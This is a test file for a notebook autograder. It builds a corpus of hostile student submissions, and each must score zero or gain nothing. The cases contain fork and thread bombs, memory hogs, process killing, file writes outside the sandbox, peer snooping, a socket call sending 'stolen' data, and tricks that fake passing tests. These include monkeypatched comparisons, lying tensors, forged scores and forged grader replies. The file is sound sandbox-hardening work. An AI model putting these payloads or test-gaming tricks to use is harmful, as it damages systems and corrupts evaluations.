"""The hostile corpus: ``lrn`` notebooks whose solution cells attack the grader, and what each must score.

Each case is the course's own ``lrn`` notebook (``solutions/lrn/lrn.ipynb``) with its two solution cells
(``lrn_inter``, ``lrn_intra``) replaced. ``{INTER}`` and ``{INTRA}`` stand for the correct solutions, so a
case can be hostile *and* correct (it must then score full marks, and its mischief must still be undone);
``{MARKER}``, ``{PORT}``, ``{REPO}`` and ``{PEERS}`` are filled in by ``build``. ``expect`` is ``"zero"``,
``"full"``, the name of a check in ``CHECKS``, or ``"no_gain"``: a case that fakes its way past the tests
gets no point more, test by test, than the same wrong function submitted honestly (its ``honest`` body: an
identity earns the points for leaving the input alone, a trick must earn nothing on top).

Grow it: add a row. ``python tests/hostile/corpus.py OUTDIR`` writes the notebooks;
``python tests/hostile/corpus.py --table`` grades them and prints the table (case, score, seconds).
"""

from __future__ import annotations

import copy
import json
import sys
import textwrap
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
TEMPLATE = ROOT / "solutions" / "lrn" / "lrn.ipynb"

#: the limits the corpus runs under (small, so that the timeouts do not dominate the test suite's time)
LIMITS = {"run_timeout": 1.5, "load_timeout": 3.0, "notebook_timeout": 8.0}


def src(text: str) -> str:
    return textwrap.dedent(text).strip("\n")


def both(body: str, head: str = "") -> tuple[str, str]:
    """Both functions with the same body, after ``head`` at the top of the first cell."""
    indented = textwrap.indent(src(body), "    ")
    return (f"{src(head)}\ndef lrn_inter(a, n, k, alpha, beta):\n{indented}\n",
            f"def lrn_intra(a, n, k, alpha, beta):\n{indented}\n")


def first(head: str) -> tuple[str, str]:
    """The correct functions, with ``head`` run before them at the top of the first cell."""
    return (src(head) + "\n{INTER}", "{INTRA}")


def case(name, what, cells, expect, **extra):
    return {"name": name, "what": what, "cells": cells, "expect": expect, **extra}


def hack(name, what, cells, honest, **extra):
    """A case that cheats: it must earn no more than ``honest``, the same wrong answer without tricks."""
    return case(name, what, cells, "no_gain", honest=honest, **extra)


CORRECT = ("{INTER}", "{INTRA}")
LOOP_FOREVER = "while True:\n    pass"

CASES = [
    case("correct", "the instructor's solution, as a student would submit it", CORRECT, "full"),
    case("infinite_loop", "both functions loop forever", both(LOOP_FOREVER), "zero"),
    case("ignore_sigterm", "ignores SIGTERM and SIGINT, then sleeps forever in each call", both("""
        import time
        while True:
            time.sleep(0.01)
        """, head="""
        import signal
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        """), "zero"),
    case("sleep_at_import", "sleeps for an hour at the top level, then defines correct functions",
         first("import time\ntime.sleep(3600)"), "zero"),
    case("memory_hog", "tries to lift its memory limit, then allocates far more than allowed", both("""
        import resource
        try:
            resource.setrlimit(resource.RLIMIT_AS, (-1, -1))
        except Exception:
            pass
        hog = []
        while True:
            hog.append(bytearray(2**27))
        """), "zero"),
    case("memory_hog_torch", "asks torch for a terabyte", both("return torch.empty(2**40) + a.sum()"),
         "zero"),
    hack("fork_bomb", "forks until the process limit, children sleep forever; wrong functions",
         both("return a.clone()", head="""
        import os
        for _ in range(100000):
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                os.execvp('sleep', ['sleep', '{MARKER}'])
        """), "return a.clone()"),
    case("setsid_left_behind", "correct, but starts daemons with setsid and a double fork", first("""
        import os, subprocess
        subprocess.Popen(['sleep', '{MARKER}'], start_new_session=True)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execvp('sleep', ['sleep', '{MARKER}'])
            os._exit(0)
        """), "full"),
    hack("thread_bomb", "starts threads until it cannot; wrong functions", both("return a * 0", head="""
        import threading, time
        for _ in range(100000):
            try:
                threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
            except RuntimeError:
                break
        """), "return a * 0"),
    hack("equal_to_everything", "returns an object that equals everything", both("""
        class Anything:
            def __eq__(self, other):
                return True
            def __array__(self, *args, **kwargs):
                import numpy
                return numpy.zeros(a.shape)
        return Anything()
        """), "return a * 0"),
    hack("lying_tensor", "returns a tensor subclass whose comparisons always say 'equal'",
         both("return torch.zeros_like(a).as_subclass(Liar)", head="""
        class Liar(torch.Tensor):
            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None):
                if getattr(func, '__name__', '') in ('allclose', 'equal', '__eq__', 'eq', 'isclose'):
                    return True
                return super().__torch_function__(func, types, args, kwargs or {})
        """), "return torch.zeros_like(a)"),
    hack("monkeypatch_torch", "patches torch and numpy comparisons to always pass, returns zeros",
         both("return torch.zeros_like(a)", head="""
        import numpy, numpy.testing
        torch.allclose = lambda *a, **k: True
        torch.equal = lambda *a, **k: True
        torch.testing.assert_close = lambda *a, **k: None
        torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
        numpy.allclose = lambda *a, **k: True
        numpy.testing.assert_allclose = lambda *a, **k: None
        """), "return torch.zeros_like(a)"),
    hack("monkeypatch_assert", "replaces AssertionError, pytest's approx and unittest's asserts",
         both("return a", head="""
        import builtins, unittest
        builtins.AssertionError = type('AssertionError', (Exception,), {})
        unittest.TestCase.assertEqual = lambda *a, **k: None
        try:
            import pytest
            pytest.approx = lambda *a, **k: a[0] if a else None
        except Exception:
            pass
        """), "return a"),
    hack("fake_results", "prints a perfect score and a fake JSON line; wrong functions",
         both("print('score: 19/19  ALL TESTS PASSED')\nreturn a", head="""
        print('{"notebook": "me.ipynb", "assignment": "lrn", "score": 19.0, "max_score": 19.0, '
              '"tests": [], "error": null}')
        print("\\x1b[2J\\x1b[32mscore: 100\\x1b[0m")
        """), "return a"),
    case("sys_exit_at_import", "calls sys.exit() at the top of both cells",
         ("import sys\nsys.exit(0)\n{INTER}", "import sys\nsys.exit(0)\n{INTRA}"), "zero"),
    case("sys_exit_in_call", "calls sys.exit() in every call", both("import sys\nsys.exit(0)"), "zero"),
    case("os_exit_at_import", "calls os._exit(0) at the top level", first("import os\nos._exit(0)"), "zero"),
    case("os_exit_in_call", "calls os._exit(0) in every call", both("import os\nos._exit(0)"), "zero"),
    case("kill_everything", "correct, but signals every process it can reach (kill -1, its parent)", first("""
        import os, signal
        for target in (-1, os.getppid(), 1):
            try:
                os.kill(target, signal.SIGKILL)
            except OSError:
                pass
        """), "full"),
    case("mutates_inputs", "correct values, but zeroes its input in place", tuple(
        f"{{{f.upper()}}}\n_{f} = lrn_{f}\ndef lrn_{f}(a, n, k, alpha, beta):\n"
        f"    b = _{f}(a, n, k, alpha, beta)\n    a.data.zero_()\n    return b\n"
        for f in ("inter", "intra")),
        "inputs_test_fails"),
    hack("nan", "returns NaN everywhere", both("return torch.full_like(a, float('nan'))"), "return a * 0"),
    case("import_reference", "imports tricksref and the grader's suites to call the reference", both("""
        from tricksref import local_response_norm
        return local_response_norm(a, n, alpha, beta, k, convention='alexnet')
        """, head="""
        try:
            import grader.hidden.lrn, grader.suite
        except ImportError:
            pass
        """), "zero", error="not available to graded code"),
    # whether the walk ends within the load timeout depends on the disk (a cold cache, a large
    # virtual environment): either way it must not earn more than its fallback submitted honestly
    hack("search_disk", "walks the disk for the reference's source and runs it if found",
         both("return _found(a, n, k, alpha, beta)", head="""
        import os
        _src = None
        for d, dirs, files in os.walk('/'):
            if d.startswith(('/proc', '/sys')):
                dirs[:] = []
                continue
            if d.endswith('tricksref') and 'lrn.py' in files:
                _src = open(os.path.join(d, 'lrn.py')).read()
                break
        def _found(a, n, k, alpha, beta):
            if _src is None:
                return a * 0
            ns = {}
            exec(_src, ns)
            return ns['local_response_norm'](a, n, alpha, beta, k, convention='alexnet')
        """), "return a * 0"),
    hack("read_peers", "tries to read the other notebooks of the class", both(
        "return a * 0 if not _peers else a",
        head="import os\n_peers = [p for p in {PEERS} if os.path.exists(p)]"),
        "return a * 0"),
    case("write_outside", "correct, but writes files outside its scratch folder", first("""
        for _p in ('{REPO}/PWNED-{MARKER}', '/tmp/PWNED-{MARKER}', '/root/PWNED-{MARKER}'):
            try:
                open(_p, 'w').write('x')
            except OSError:
                pass
        """), "full", writes=["{REPO}/PWNED-{MARKER}", "/tmp/PWNED-{MARKER}", "/root/PWNED-{MARKER}"]),
    hack("network", "opens connections (the grader's machine, the internet); wrong functions",
         both("return a", head="""
        import socket
        for _host, _port in (('127.0.0.1', {PORT}), ('8.8.8.8', 53)):
            try:
                _s = socket.create_connection((_host, _port), timeout=1)
                _s.sendall(b'stolen')
            except OSError:
                pass
        """), "return a"),
    case("flood_stdout", "correct, but prints 20 MB first",
         first("import sys\nfor _ in range(2000):\n    sys.stdout.write('x' * 10000 + '\\n')"), "full"),
    case("flood_stdout_forever", "prints forever at the top level",
         first("while True:\n    print('score: 100 ' * 1000)"), "zero"),
    case("segfault", "crashes the interpreter in every call", both("import ctypes\nctypes.string_at(0)"),
         "zero"),
    case("huge_result", "returns a 128 MB tensor", both("return torch.zeros(2**25)"), "zero"),
    case("recursion", "recurses without end", both("return lrn_inter(a, n, k, alpha, beta)"), "zero"),
    hack("forged_reply", "writes a fake 'ok' reply on the grader's channel", both("return a", head="""
        import os, struct
        from grader import transport
        _msg = transport.encode({'ok': {'results': []}})
        for _fd in range(3, 10):
            try:
                os.write(_fd, struct.pack('!Q', len(_msg)) + _msg)
            except OSError:
                pass
        """), "return a"),
    hack("tamper_transport", "replaces the child's encoder and probes to send made-up answers",
         both("return a", head="""
        import grader.transport, grader.probes.lrn
        grader.probes.lrn.forward = lambda ns, **kw: {'results': 'all good'}
        grader.transport.encode = lambda value: b'PK garbage'
        """), "return a"),
    case("reads_stdin", "waits for input at the top of both cells",
         ("input('password? ')\n{INTER}", "input()\n{INTRA}"), "zero"),
    case("syntax_error", "solution cells that do not compile", (
        "def lrn_inter(a, n, k, alpha, beta)\n    return a\n",
        "def lrn_intra(a, n, k, alpha, beta):\n  return (a"),
        "zero", error="does not compile"),
]

#: files that are not notebooks at all
BROKEN = {
    "not_json": b"this is not a notebook {",
    "no_cells": json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode(),
    "binary": bytes(range(256)) * 16,
    "truncated": None,  # the template cut in half
}


def passed(result: dict, name: str) -> bool:
    return any(t["name"] == name and t["passed"] for t in result["tests"])


def no_gain(result: dict, honest: dict) -> bool:
    """Test by test, the hostile notebook earns no more than its honest twin."""
    fair = {t["name"]: t["points"] for t in honest["tests"]}
    return bool(result["tests"]) and all(t["points"] <= fair.get(t["name"], 0.0) for t in result["tests"])


def texts(result: dict) -> str:
    return " ".join([result["error"] or ""] + [t["message"] for t in result["tests"]])


CHECKS = {
    "zero": lambda r: r["score"] == 0.0,
    "full": lambda r: r["score"] == r["max_score"] > 0,
    "inputs_test_fails": lambda r: (not passed(r, "test_lrn_inputs_unmodified")
                                    and 0 < r["score"] < r["max_score"]),
}


def check(c: dict, result: dict, twin: dict | None = None) -> bool:
    """Whether ``result`` is what case ``c`` must score (``twin``: its honest twin's result, for no_gain)."""
    if c["expect"] == "no_gain":
        ok = twin is not None and no_gain(result, twin)
    else:
        ok = CHECKS[c["expect"]](result)
    return ok and c.get("error", "") in texts(result)


def _subst(text: str, values: dict) -> str:
    for k, v in values.items():
        text = text.replace("{" + k + "}", v)
    return text


def build(dest: Path, *, port: int = 9, marker: str = "4242.4242", template: Path = TEMPLATE,
          cases: list | None = None) -> list[tuple[Path, dict]]:
    """Write one notebook per case (``<case>/lrn.ipynb``, so the file name is the assignment's) and the
    broken files; return ``[(path, case), ...]`` with the placeholders of each case filled in."""
    nb = json.loads(template.read_text())
    correct = {}
    for cell in nb["cells"]:
        gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if gid in ("lrn_inter", "lrn_intra"):
            correct[gid] = "".join(cell["source"])
    paths = [dest / c["name"] / "lrn.ipynb" for c in (cases or CASES)]
    out = []
    for i, c in enumerate(cases or CASES):
        values = {"INTER": correct["lrn_inter"], "INTRA": correct["lrn_intra"], "MARKER": f"{marker}{i}",
                  "PORT": str(port), "REPO": str(ROOT), "PEERS": repr([str(p) for p in paths])}
        filled = {k: (_subst(v, values) if isinstance(v, str) else
                      [_subst(x, values) for x in v] if isinstance(v, list) else v) for k, v in c.items()}
        cells = [_subst(s, values) for s in c["cells"]]
        this = copy.deepcopy(nb)
        for cell in this["cells"]:
            gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
            if gid == "lrn_inter":
                cell["source"] = cells[0]
            elif gid == "lrn_intra":
                cell["source"] = cells[1]
        path = dest / c["name"] / "lrn.ipynb"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(this, indent=1))
        if c["expect"] == "no_gain":
            twin = copy.deepcopy(nb)
            graded = [x for x in twin["cells"] if x.get("metadata", {}).get("nbgrader", {})
                      .get("grade_id") in ("lrn_inter", "lrn_intra")]
            for cell, text in zip(graded, both(c["honest"]), strict=True):
                cell["source"] = text
            filled["twin"] = dest / (c["name"] + "__honest") / "lrn.ipynb"
            filled["twin"].parent.mkdir(parents=True, exist_ok=True)
            filled["twin"].write_text(json.dumps(twin, indent=1))
        out.append((path, filled))
    raw = template.read_bytes()
    for name, data in BROKEN.items():
        path = dest / name / "lrn.ipynb"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(raw[: len(raw) // 2] if data is None else data)
        out.append((path, case(name, "not a readable notebook", CORRECT, "zero")))
    return out


def main(argv: list[str]) -> int:
    import tempfile
    import time

    if argv[:1] == ["--table"]:
        sys.path.insert(0, str(ROOT))
        from grader.cli import Grader
        from grader.sandbox import Limits

        with tempfile.TemporaryDirectory() as tmp:
            built = build(Path(tmp))
            grader = Grader(limits=Limits(**LIMITS))
            grader.prepare(["lrn"])
            print("| case | score | seconds | expected | ok |\n|---|---|---|---|---|")
            for path, c in built:
                t = time.monotonic()
                r = grader.grade(str(path)).to_json()
                seconds = time.monotonic() - t
                ok = check(c, r, grader.grade(str(c["twin"])).to_json() if "twin" in c else None)
                print(f"| {c['name']} | {r['score']:g}/{r['max_score']:g} | {seconds:.2f} | "
                      f"{c['expect']} | {'yes' if ok else 'NO'} |", flush=True)
            grader.close()
        return 0
    if len(argv) != 1:
        print(__doc__)
        return 2
    for path, _ in build(Path(argv[0])):
        print(path)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
